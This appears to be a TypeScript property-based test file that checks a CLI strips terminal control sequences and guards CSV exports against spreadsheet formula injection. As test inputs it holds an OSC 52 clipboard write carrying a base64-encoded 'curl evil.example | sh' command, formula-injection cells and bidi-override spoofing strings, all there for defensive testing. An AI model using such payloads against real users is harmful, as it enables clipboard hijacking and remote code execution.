// Table cells come from event data anyone with Voiso access can shape: they must not be able to
// move the cursor, recolour, clear or reorder what the terminal shows, nor run as spreadsheet
// formulas from a CSV export.
import fc from 'fast-check';
import { formatSimulation, type SimulationResult } from '../../cli/commands/simulate';
import { renderCsv, renderTable, terminalSafeJson } from '../../cli/terminal';

const cellOf = (value: string) => renderTable(['h'], [[value]]).split('\n')[2] ?? '';

/** Everything a terminal could act on: C0, DEL, C1 (U+009B is a one-byte CSI) and bidi. */
const TERMINAL_CONTROLS = /[\p{Cc}\u200e\u200f\u202a-\u202e\u2066-\u2069]/u;

describe('renderTable', () => {
  it.each([
    ['an ANSI escape sequence', '\u001b[2Jcleared'],
    ['a C1 control sequence introducer', '\u009b2Jcleared'],
    ['a C1 operating system command', '\u009d0;title\u009c'],
    ['DEL', 'a\u007fb'],
    ['a right-to-left override', 'user\u202egpj.exe'],
    ['a right-to-left isolate', '\u2067evil\u2069'],
    ['left-to-right and right-to-left marks', 'a\u200eb\u200fc'],
    ['a bidi embedding and its pop', '\u202aa\u202bb\u202c'],
  ])('strips %s from a cell', (_, value) => {
    const cell = cellOf(value);

    expect(cell).not.toMatch(TERMINAL_CONTROLS);
  });

  it('keeps printable text, accents and non-Latin scripts as they are', () => {
    const value = 'José Müller ناصر 山田';

    expect(cellOf(value)).toBe(value);
  });

  it('never lets a control character through, whatever the cell holds', () => {
    // Controls are rare among all code points, so they are drawn on purpose half of the time.
    const piece = fc.oneof(
      fc.integer({ min: 0, max: 0xa0 }).map((code) => String.fromCharCode(code)),
      fc.constantFrom('\u200e', '\u200f', '\u202a', '\u202e', '\u2066', '\u2069'),
      fc.string({ unit: 'binary', maxLength: 4 }),
    );
    const cell = fc.array(piece, { maxLength: 30 }).map((pieces) => pieces.join(''));
    fc.assert(
      fc.property(fc.array(cell, { maxLength: 4 }), (row) =>
        renderTable(
          row.map((_, i) => `h${i}`),
          [row],
        )
          .split('\n')
          .every((line) => !TERMINAL_CONTROLS.test(line)),
      ),
      { numRuns: 500 },
    );
  });
});

const TERMINAL_CONTROLS_AND_SEPARATORS =
  /[\p{Cc}\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/u;

/** Everything a terminal could act on, less the CRLF that separates CSV records. */
const CONTROLS_BUT_RECORD_ENDS =
  /[\p{Cc}\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/u;
const csvBody = (csv: string) => csv.split('\r\n').join('');

/** Cells mixing controls (half of the time) with everything else. */
const hostileCell = fc
  .array(
    fc.oneof(
      fc.integer({ min: 0, max: 0xa0 }).map((code) => String.fromCharCode(code)),
      fc.constantFrom(
        '\u200e',
        '\u202e',
        '\u2066',
        '\u2028',
        '\u2029',
        '\u061c',
        '=',
        '+',
        '-',
        '@',
      ),
      fc.string({ unit: 'binary', maxLength: 4 }),
    ),
    { maxLength: 30 },
  )
  .map((pieces) => pieces.join(''));

describe('renderCsv', () => {
  it('writes CSV that spreadsheets will not run as formulas', () => {
    expect(renderCsv(['a', 'b'], [['=HYPERLINK("x")', 'plain, comma']])).toBe(
      'a,b\r\n"\'=HYPERLINK(""x"")","plain, comma"',
    );
  });

  it('passes no terminal control: an OSC 52 clipboard write comes out inert', () => {
    const osc52 = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007';

    const csv = renderCsv(['body'], [[osc52], ['\u009b2J\u202eevil']]);

    expect(csvBody(csv)).not.toMatch(CONTROLS_BUT_RECORD_ENDS);
    expect(csv).toContain(']52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==');
  });

  it.each([
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1+cmd', "'-1+cmd"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "' =1"],
    ['\r=1', "' =1"],
    ['\tplain', "' plain"],
    ['  =1', "'  =1"],
    ['\uff1d1+1', "'\uff1d1+1"],
    ['a=1', 'a=1'],
  ])('guards %j against formula injection as %j', (value, expected) => {
    expect(renderCsv(['h'], [[value]]).split('\r\n')[1]).toBe(expected);
  });

  it('never lets a control character or a formula start through, whatever the cells hold', () => {
    fc.assert(
      fc.property(fc.array(hostileCell, { minLength: 1, maxLength: 4 }), (row) => {
        const csv = renderCsv(
          row.map((_, i) => `h${i}`),
          [row],
        );
        const record = csv.split('\r\n')[1] ?? '';
        expect(csv.split('\r\n')).toHaveLength(2);
        expect(record).not.toMatch(CONTROLS_BUT_RECORD_ENDS);
        // Every cell (quoted or not) that could start a formula starts with the guard.
        for (const cell of record.match(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g) ?? []) {
          const text = cell.replace(/,$/, '').replace(/^"|"$/g, '');
          expect(text).not.toMatch(/^\s*[=+\-@\uff1d\uff0b\uff0d\uff20]/);
        }
      }),
      { numRuns: 500 },
    );
  });
});

describe('terminalSafeJson', () => {
  it('escapes C1 and bidi controls that JSON.stringify leaves raw, meaning the same', () => {
    const value = { body: '\u009b2J\u202eevil\u2066\u2028\u2029\u007f\u0007\u001b]52;c;x\u0007' };

    const json = terminalSafeJson(value);

    expect(json.replaceAll('\n', '')).not.toMatch(TERMINAL_CONTROLS_AND_SEPARATORS);
    expect(json).toContain('\\u009b2J\\u202eevil\\u2066\\u2028\\u2029\\u007f');
    expect(JSON.parse(json)).toEqual(value);
  });

  it('never prints a control character, and always parses back to the same value', () => {
    fc.assert(
      fc.property(
        fc.dictionary(hostileCell, fc.oneof(hostileCell, fc.array(hostileCell))),
        (value) => {
          const json = terminalSafeJson(value);
          // Indentation's own line breaks are the only controls left.
          expect(json.replaceAll('\n', '')).not.toMatch(TERMINAL_CONTROLS_AND_SEPARATORS);
          expect(JSON.parse(json)).toEqual(value);
        },
      ),
      { numRuns: 500 },
    );
  });
});

describe('formatSimulation', () => {
  const emptyResult = (overrides: Partial<SimulationResult>): SimulationResult => ({
    summary: {
      sent: 0,
      stored: 0,
      duplicates: 0,
      quarantined: 0,
      deadLettered: 0,
      alerts: 0,
      rejected: 0,
    },
    stored: [],
    alerts: [],
    incidents: [],
    quarantined: [],
    deadLettered: [],
    rejected: [],
    ...overrides,
  });

  it('prints quarantined and dead-lettered bodies without their terminal controls', () => {
    const hostile = '\u009b2J\u202eevil\u2066';
    const result = emptyResult({
      quarantined: [{ line: 1, body: hostile, reason: `not JSON ${hostile}` }],
      deadLettered: [{ line: 2, body: hostile }],
    });

    const text = formatSimulation(result);

    expect(text).toContain('evil');
    for (const line of text.split('\n')) expect(line).not.toMatch(TERMINAL_CONTROLS);
  });
});
